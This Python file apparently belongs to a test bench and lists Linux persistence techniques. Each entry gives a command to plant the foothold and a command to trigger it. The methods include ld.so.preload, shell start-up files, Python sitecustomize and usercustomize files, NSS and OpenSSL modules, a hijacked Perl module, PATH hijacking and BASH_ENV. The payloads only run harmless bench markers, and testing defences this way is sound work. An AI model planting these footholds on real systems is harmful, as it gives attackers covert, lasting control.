# SPDX-License-Identifier: Apache-2.0
"""What signed programs read before they do what they were started for: shells, Python, the dynamic loader, libraries."""

from __future__ import annotations

from attack.persistence.model import READ_ONLY, Row
from attack.persistence.payload import BENCH, both, copy, lines, native, put, root_shell, script, text

PYTHON = (
    "\nimport subprocess as _b\nfor _c in (['/bin/sh', '{bench}/fire', '{name}'], ['{bench}/native', '{name}']):\n"
    "    try:\n        _b.run(_c, stdout=_b.DEVNULL)\n    except OSError:\n        pass\n"
)
PYTHON_RUNS = "python3 -c pass"
PACKAGES = "lib/python3.13/site-packages"
ALICE = "runuser -l alice -c"
SSL = """openssl_conf = planted
[planted]
providers = providers
[providers]
default = default_sect
b31 = b31_sect
[default_sect]
activate = 1
[b31_sect]
module = {bench}/b31-openssl.so
activate = 1"""

PERL = (
    f"package strict;\nsystem '/bin/sh', '{BENCH}/fire', 'b47-perl';\nsystem '{BENCH}/native b47-perl >/dev/null 2>&1';\n"
    "sub import {} sub unimport {}\n1;"
)


def _python(name: str) -> str:
    return PYTHON.format(bench=BENCH, name=name)


def _name_service() -> str:
    library = copy("library.so", f"{BENCH}/nss/libnss_b30.so.2") + put("/etc/ld.so.conf.d/b30.conf", f"{BENCH}/nss")
    return f"{library}ldconfig\nsed -i 's/^networks:.*/networks: files b30/' /etc/nsswitch.conf\n"


def _root_home() -> str:
    planted = "".join(put(f"/root/{name}", lines("a61-root-shell")) for name in (".bashrc", ".bash_profile", ".bash_logout"))
    return planted + put("/root/.profile", lines("a61-root-shell"))


def _user_shell() -> str:
    own = lines("a62-user-shell")
    return (
        put("/home/alice/.profile", own) + put("/home/alice/.bashrc", own) + put("/home/alice/.bash_profile", own)
        + "chown alice: /home/alice/.profile /home/alice/.bashrc /home/alice/.bash_profile\n"
    )  # fmt: skip


def _plugin() -> str:
    folder = f"/home/alice/.local/{PACKAGES}"
    return put(f"{folder}/usercustomize.py", _python("a67-plugin")) + "chown -R alice: /home/alice/.local\n"


def _autostart() -> str:
    entry = f"[Desktop Entry]\nType=Application\nName=a64\nExec={text('a64-autostart')}"
    return put("/etc/xdg/autostart/a64.desktop", entry)


ROWS = (
    Row("a60-profile", "E", "start-up files of all login shells", put("/etc/profile.d/a60.sh", lines("a60-profile")),
        both("a60-profile"), trigger=root_shell("true")),
    Row("a60-bashrc", "E", "the start-up file of all interactive shells",
        f"sed -i '1i {text('a60-bashrc')}\\n{native('a60-bashrc')} >/dev/null' /etc/bash.bashrc\n", both("a60-bashrc"),
        trigger=root_shell("true")),
    Row("a61-root-shell", "X", "start-up files of root's shells", _root_home(), both("a61-root-shell"),
        trigger=root_shell("true")),
    Row("a62-user-shell", "O", "start-up files of a user's shell: they are the user's", _user_shell(), both("a62-user-shell"),
        trigger=f"{ALICE} true </dev/null\nrunuser -u alice -- bash -lc true </dev/null"),
    Row("a64-autostart", "E", "a program that starts with every desktop session", _autostart(), ("a64-autostart",),
        trigger="systemctl start user@0.service\nXDG_RUNTIME_DIR=/run/user/0 systemctl --user start "
                "app-a64@autostart.service || true"),
    Row("a67-plugin", "O", "a plug-in of a user's program: it is the user's", _plugin(), both("a67-plugin"),
        trigger=f"{ALICE} '{PYTHON_RUNS}' </dev/null"),
    Row("a74-preload", "E", "a library that every program loads",
        copy("library.so", f"{BENCH}/a74-preload.so") + f"echo {BENCH}/a74-preload.so >>/etc/ld.so.preload\n",
        ("a74-preload.native",), trigger="/usr/bin/true"),
    Row("a74-signed-preload", "E", "a library of Debian's that every program loads",
        "echo /usr/lib/x86_64-linux-gnu/libutil.so.1 >>/etc/ld.so.preload\n",
        look="cat /etc/ld.so.preload 2>/dev/null || true", found="libutil"),
    Row("a78-sitecustomize", "E", "Python's start-up file in /etc",
        f"cat >>/etc/python3.13/sitecustomize.py <<'PLANTED'\n{_python('a78-sitecustomize')}PLANTED\n", both("a78-sitecustomize"),
        trigger=PYTHON_RUNS),
    Row("a78-usercustomize", "X", "Python's start-up file in root's home",
        put(f"/root/.local/{PACKAGES}/usercustomize.py", _python("a78-usercustomize")), both("a78-usercustomize"),
        trigger=PYTHON_RUNS),
    Row("a78-path-file", "U", "a line in a .pth file of Python's",
        put("/usr/local/lib/python3.13/dist-packages/a78.pth", "import os; os.system('true')"), control="closed",
        reason=READ_ONLY),
    Row("a80-wrapped", "U", "a program of the system's moved and wrapped",
        "mv /usr/bin/less /usr/bin/less.real\n" + put("/usr/bin/less", script("a80-wrapped"), "755"), ("a80-wrapped",),
        control="closed", reason=READ_ONLY),
    Row("a81-local", "U", "a program that comes first in the path", copy("native", "/usr/local/sbin/ls"), control="closed",
        reason=READ_ONLY),
    Row("a81-path", "E", "root's path led through /opt", copy("native", "/opt/a81-path/ls")
        + put("/etc/profile.d/a81.sh", "PATH=/opt/a81-path:$PATH") + copy("native", "/root/bin/ls"), ("a81-path.native",),
        trigger="bash -lc 'ls a81-path' </dev/null"),
    Row("b30-name-service", "E", "a library that looks up names", _name_service(), ("libnss_b30.native",),
        trigger="getent networks planted || true"),
    Row("b31-openssl", "E", "a module that OpenSSL loads",
        copy("library.so", f"{BENCH}/b31-openssl.so") + put("/etc/ssl/openssl.cnf", SSL.format(bench=BENCH)),
        ("b31-openssl.native",), trigger="openssl rand -hex 1"),
    Row("b47-perl", "E", "a module that comes first in Perl's path", put("/etc/perl/strict.pm", PERL), both("b47-perl"),
        trigger="perl -Mstrict -e 1"),
    Row("b32-bash-env", "E", "what a shell reads when it is told to by the environment",
        put(f"{BENCH}/b32-bash-env", lines("b32-bash-env")) + put("/etc/systemd/system.conf.d/b32.conf",
        f"[Manager]\nDefaultEnvironment=BASH_ENV={BENCH}/b32-bash-env"), both("b32-bash-env"),
        trigger="systemd-run --wait --quiet bash -c true"),
)  # fmt: skip
